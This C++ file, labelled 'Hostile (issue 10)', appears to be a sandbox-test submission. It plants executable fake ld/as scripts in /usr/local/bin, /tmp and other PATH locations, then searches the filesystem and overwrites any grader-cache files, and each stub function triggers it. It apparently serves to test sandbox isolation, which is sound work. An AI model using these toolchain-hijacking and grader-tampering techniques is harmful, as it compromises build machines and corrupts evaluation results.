// Hostile (issue 10): plant programs the next build would run (ld, as, collect2 on PATH and in
// /usr/local/bin), and write into the grader cache wherever it can be found.
#include <sys/stat.h>
#include <cstdio>
#include <filesystem>
#include <stdexcept>
#include "classify.hpp"
namespace ex01 {
static void attack() {
  for (const char* p : {"/usr/local/bin/ld", "/usr/local/bin/as", "/usr/bin/t2-planted", "/bin/t2-planted", "/tmp/ld"}) {
    if (FILE* f = std::fopen(p, "w")) { std::fputs("#!/bin/sh\ntouch /t2-owned\n", f); std::fclose(f); chmod(p, 0755); }
  }
  std::error_code ec;
  for (auto it = std::filesystem::recursive_directory_iterator("/", std::filesystem::directory_options::skip_permission_denied, ec);
       it != std::filesystem::recursive_directory_iterator(); it.increment(ec)) {
    if (it.depth() > 6) { it.disable_recursion_pending(); continue; }
    if (it->path().filename() == "grader-cache")
      for (const auto& e : std::filesystem::directory_iterator(it->path(), ec))
        if (FILE* f = std::fopen(e.path().c_str(), "w")) { std::fputs("owned", f); std::fclose(f); }
  }
}
Where where(const t2::Point&) { attack(); throw std::logic_error("where() is not implemented yet"); }
bool same_point(const t2::Point&, const t2::Point&) { attack(); throw std::logic_error("same_point() is not implemented yet"); }
bool antipodal(const t2::Point&, const t2::Point&) { attack(); throw std::logic_error("antipodal() is not implemented yet"); }
}  // namespace ex01
